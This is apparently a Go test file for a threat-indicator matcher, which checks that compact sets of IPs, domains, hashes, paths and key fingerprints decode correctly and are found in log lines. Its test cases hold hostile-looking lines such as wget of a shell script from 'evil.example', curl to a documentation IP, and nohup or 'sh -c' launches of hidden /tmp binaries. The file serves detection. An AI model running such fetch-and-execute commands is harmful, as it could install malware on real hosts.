package indicator

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
)

const golden = "../../../tests/golden/indicators.json"

// list is one entry of the golden file, which tests/indicators/test_compact.py writes.
type list struct {
	Spec   Spec     `json:"spec"`
	Body   string   `json:"body"`
	Values []string `json:"values"`
	Names  int      `json:"names"` // v0.example, v1.example …
}

func (l *list) all() []string {
	values := slices.Clone(l.Values)
	for i := range l.Names {
		values = append(values, fmt.Sprintf("v%d.example", i))
	}
	return values
}

func lists(t testing.TB) []list {
	t.Helper()
	data, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	var found []list
	if err := json.Unmarshal(data, &found); err != nil {
		t.Fatal(err)
	}
	return found
}

func load(t testing.TB, kind string) (*Set, *list) {
	t.Helper()
	for _, l := range lists(t) {
		if l.Spec.Kind != kind {
			continue
		}
		body, err := hex.DecodeString(l.Body)
		if err != nil {
			t.Fatal(err)
		}
		if err := l.Spec.Check(); err != nil {
			t.Fatal(err)
		}
		set, err := Decode(&l.Spec, body)
		if err != nil {
			t.Fatal(err)
		}
		return set, &l
	}
	t.Fatalf("no golden set of %s", kind)
	return nil, nil
}

func found(s *Set, value string) []string {
	var words []string
	s.Find(value, func(word string) { words = append(words, word) })
	return words
}

// listing is a set of these very values, for tests of how they are found in texts.
func listing(kind string, values ...string) *Set {
	s := &Set{Kind: kind, find: finders[kind], span: 1 << 32, prefixes4: []int{8, 24}, prefixes6: []int{48}}
	for _, v := range values {
		s.values = append(s.values, scale(v, s.span))
	}
	slices.Sort(s.values)
	return s
}

func TestEveryValueOfTheListsThatPythonWroteIsFound(t *testing.T) {
	for _, kind := range []string{"md5", "ip", "domain"} {
		set, l := load(t, kind)
		for _, value := range l.all() {
			if !set.Has(value) {
				t.Errorf("%s: %q is not found", kind, value)
			}
		}
	}
}

func TestOtherValuesAreFoundAsRarelyAsTheBitsSay(t *testing.T) {
	set, _ := load(t, "domain")
	const asked = 100_000

	wrong := 0
	for i := range asked {
		if set.Has(fmt.Sprintf("w%d.example", i)) {
			wrong++
		}
	}

	if wrong < asked/256/2 || wrong > asked/256*3/2 {
		t.Errorf("%d of %d, 1 in 256 was promised", wrong, asked)
	}
}

func TestBrokenSetsAreRefused(t *testing.T) {
	l := lists(t)[2]
	body, err := hex.DecodeString(l.Body)
	if err != nil {
		t.Fatal(err)
	}

	for _, broken := range [][]byte{body[:len(body)-1], nil, append([]byte{1}, body[1:]...)} {
		if _, err := Decode(&l.Spec, broken); err == nil {
			t.Errorf("%d bytes were taken for a set", len(broken))
		}
	}
	if _, err := decode(body[:100], l.Spec.Count, 8, uint64(l.Spec.Count)<<8); err == nil {
		t.Error("a set that is cut short was taken")
	}
	if _, err := decode([]byte(strings.Repeat("\xff", 1000)), 1, 8, 1<<8); err == nil {
		t.Error("ones without an end were taken")
	}
}

func TestSpecsOutOfBoundsAreRefused(t *testing.T) {
	good := lists(t)[1].Spec
	cases := map[string]func(*Spec){
		"kind":       func(s *Spec) { s.Kind = "colour" },
		"bits":       func(s *Spec) { s.Bits = 25 },
		"count":      func(s *Spec) { s.Count = 0 },
		"too many":   func(s *Spec) { s.Count = 1 << 20 },
		"size_bytes": func(s *Spec) { s.SizeBytes = 1 << 30 },
		"prefixes":   func(s *Spec) { s.Prefixes4 = []int{33} },
		"no prefix":  func(s *Spec) { s.Prefixes6 = []int{0} },
	}
	for name, spoil := range cases {
		spec := good
		spoil(&spec)
		if spec.Check() == nil {
			t.Errorf("%s: taken", name)
		}
	}
}

func TestValuesAreFoundInTexts(t *testing.T) {
	digest := strings.Repeat("ab", 32)
	key := "SHA256:" + strings.Repeat("k", 43)
	cases := []struct {
		kind, listed, value string
		want                string
	}{
		{"sha256", digest, digest, digest},
		{"sha256", digest, strings.ToUpper(digest), digest},
		{"sha256", digest, "sum=" + digest + ";", digest},
		{"sha256", digest, digest + "ab", ""},
		{"sha256", digest, "x" + digest, ""},
		{"ip", "192.0.2.9", "192.0.2.9", "192.0.2.9"},
		{"ip", "192.0.2.9", "::ffff:192.0.2.9", "192.0.2.9"},
		{"ip", "192.0.2.9", "Failed password for root from 192.0.2.9 port 22", "192.0.2.9"},
		{"ip", "192.0.2.9", "curl http://192.0.2.9:8080/x", "192.0.2.9"},
		{"ip", "192.0.2.9", "connected to 192.0.2.9.", "192.0.2.9"},
		{"ip", "192.0.2.9", "192.0.2.90", ""},
		{"ip", "192.0.2.9", "1.192.0.2.9", ""},
		{"ip", "192.0.2.0/24", "192.0.2.200", "192.0.2.0/24"},
		{"ip", "10.0.0.0/8", "10.200.0.1:443", "10.0.0.0/8"},
		{"ip", "2001:db8::1", "[2001:DB8:0::1]:443", "2001:db8::1"},
		{"ip", "2001:db8:1::/48", "2001:db8:1:2::3%eth0", "2001:db8:1::/48"},
		{"domain", "evil.example", "evil.example", "evil.example"},
		{"domain", "evil.example", "wget https://A.B.Evil.Example/x.sh", "evil.example"},
		{"domain", "evil.example", "192.0.2.1 evil.example.", "evil.example"},
		{"domain", "evil.example", "0.0.0.0 evil.example", ""},
		{"domain", "evil.example", "127.0.0.1\tlocalhost evil.example", ""},
		{"domain", "evil.example", "user@evil.example", "evil.example"},
		{"domain", "evil.example", "notevil.example", ""},
		{"domain", "evil.example", "evil.example.org", ""},
		{"domain", "a.evil.example", "evil.example", ""},
		{"path", "/tmp/.x/run", "/tmp/.x/run", "/tmp/.x/run"},
		{"path", "/tmp/.x/run", "/tmp//.x/./run", "/tmp/.x/run"},
		{"path", "/tmp/.x/run", "nohup '/tmp/.x/run' >/dev/null", "/tmp/.x/run"},
		{"path", "/tmp/a b", "/tmp/a b", "/tmp/a b"},
		{"path", "/tmp/.x/run", "/tmp/.x/run2", ""},
		{"path", "/tmp/.x/run", "/mnt/tmp/.x/run", ""},
		{"filename", "kworkerds", "/usr/bin/kworkerds", "kworkerds"},
		{"filename", "kworkerds", "sh -c /tmp/kworkerds;true", "kworkerds"},
		{"filename", "kworkerds", "kworkerds2", ""},
		{"key_fingerprint", key, key, key},
		{"key_fingerprint", key, "Accepted publickey for root from 192.0.2.1 port 1 ssh2: ED25519 " + key, key},
		{"key_fingerprint", key, "MD5:ab", ""},
	}
	for _, c := range cases {
		got := strings.Join(found(listing(c.kind, c.listed), c.value), " ")
		if got != c.want {
			t.Errorf("%s %s in %q: got %q, want %q", c.kind, c.listed, c.value, got, c.want)
		}
	}
}

func TestValuesWithTooManyWordsSaySo(t *testing.T) {
	s := listing("path", "/tmp/x")

	if s.Find(strings.Repeat("/a ", MaxWords/2), func(string) {}) != true {
		t.Error("a value within bounds was cut")
	}
	if s.Find(strings.Repeat("/a ", MaxWords+1), func(string) {}) {
		t.Error("a value beyond the bound was looked at to its end")
	}
}

// FuzzFind: any text is looked through without a fault, and what is found is on the list.
func FuzzFind(f *testing.F) {
	f.Add("192.0.2.9:80 evil.example /tmp/x SHA256:")
	f.Add("::::1.2.3.4.5...\xff[fe80::1%x]")
	sets := []*Set{
		listing("ip", "192.0.2.9"), listing("domain", "evil.example"), listing("path", "/tmp/x"),
		listing("filename", "x"), listing("md5", strings.Repeat("0", 32)), listing("key_fingerprint", "SHA256:"),
	}
	f.Fuzz(func(t *testing.T, text string) {
		for _, s := range sets {
			s.Find(text, func(word string) {
				if !s.Has(word) {
					t.Errorf("%q is not on the list", word)
				}
			})
		}
	})
}

// FuzzDecode: any bytes are a set or an error, within the bounds of their spec.
func FuzzDecode(f *testing.F) {
	f.Add([]byte{0x4f, 0xb4, 0x83}, 3, 8)
	f.Fuzz(func(t *testing.T, coded []byte, count, low int) {
		if count < 1 || count > 1<<16 || low < MinBits || low > MaxBits {
			return
		}
		values, err := decode(coded, count, uint(low), uint64(count)<<low)
		if err == nil && (len(values) != count || !slices.IsSorted(values)) {
			t.Errorf("%d values of %d", len(values), count)
		}
	})
}

func BenchmarkHas(b *testing.B) {
	set, _ := load(b, "domain")
	for range b.N {
		set.Has("www.example.org")
	}
}
